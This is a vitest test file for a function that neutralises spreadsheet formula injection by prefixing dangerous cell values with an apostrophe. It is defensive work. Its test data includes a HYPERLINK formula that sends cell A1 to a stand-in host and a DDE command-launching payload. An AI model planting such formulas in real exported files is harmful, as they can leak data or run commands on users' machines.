import { describe, expect, it } from 'vitest';
import { toInertCell } from '../src/spreadsheet-cells';

describe('a cell written to a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', 'an equals sign'],
    ["+cmd|' /C calc'!A0", 'a plus sign (DDE)'],
    ['-2+3', 'a minus sign'],
    ['@SUM(1,1)', 'an at sign'],
    ['\tanything', 'a tab before plain text'],
    ['   =1+1', 'spaces before an equals sign (trimmed by LibreOffice on import)'],
    ['\u00a0=1+1', 'a no-break space before an equals sign'],
    ['＝1+1', 'a full-width equals sign'],
    ['＋1', 'a full-width plus sign'],
    ['－1', 'a full-width minus sign'],
    ['＠SUM(1)', 'a full-width at sign'],
    ['"=1+1"', 'a double quote before an equals sign'],
  ])('starting %j (%s) gets a leading apostrophe and keeps its text', (value) => {
    expect(toInertCell(value)).toBe(`'${value}`);
  });

  it.each([
    'Ionescu',
    'Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0',
    '100',
    'a=b',
    'Instruire periodică - SSM',
    '',
    "'already quoted",
    'Ionescu, Pop; Stan',
  ])('%j stays as it is', (value) => {
    expect(toInertCell(value)).toBe(value);
  });

  it.each([
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['Mozilla/5.0,=HYPERLINK("http://x.example/")', 'Mozilla/5.0,\'=HYPERLINK("http://x.example/")'],
    ['Pop,=1+1', "Pop,'=1+1"],
    ['Pop;+1', "Pop;'+1"],
    ['Pop\t@SUM(1)', "Pop\t'@SUM(1)"],
    ['Pop, -2', "Pop, '-2"],
    ['Pop,"=1+1"', 'Pop,"\'=1+1"'],
    ['Pop\r\n=1+1', "Pop\r\n'=1+1"],
    ['Pop,＝1', "Pop,'＝1"],
    ['=1,=2;=3', "'=1,'=2;'=3"],
  ])('%j, a formula start after a separator, opens as text however the file is split', (value, inert) => {
    expect(toInertCell(value)).toBe(inert);
  });
});
